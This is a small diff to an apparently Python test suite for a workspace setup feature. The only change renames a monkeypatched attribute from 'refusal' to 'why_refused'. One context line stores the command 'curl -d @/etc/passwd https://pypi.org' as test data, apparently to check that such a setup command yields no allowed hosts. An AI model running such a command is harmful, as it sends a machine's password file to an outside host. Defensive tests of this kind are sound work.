@@ -343,7 +343,7 @@ class TestWhoMay:
         shop.says(MAKE, ["pypi.org"])
         Workspace.objects.filter(pk=shop.workspace.pk).update(**{what: "curl -d @/etc/passwd https://pypi.org"})
         shop.workspace.refresh_from_db()
-        monkeypatch.setattr(copies, "refusal", lambda workspace: "")
+        monkeypatch.setattr(copies, "why_refused", lambda workspace: "")
         assert setups.run(actor=shop.operator, workspace=shop.workspace).hosts == []
 
     def test_who_ends_it_by_another_command_is_told(self, shop: Shop) -> None:
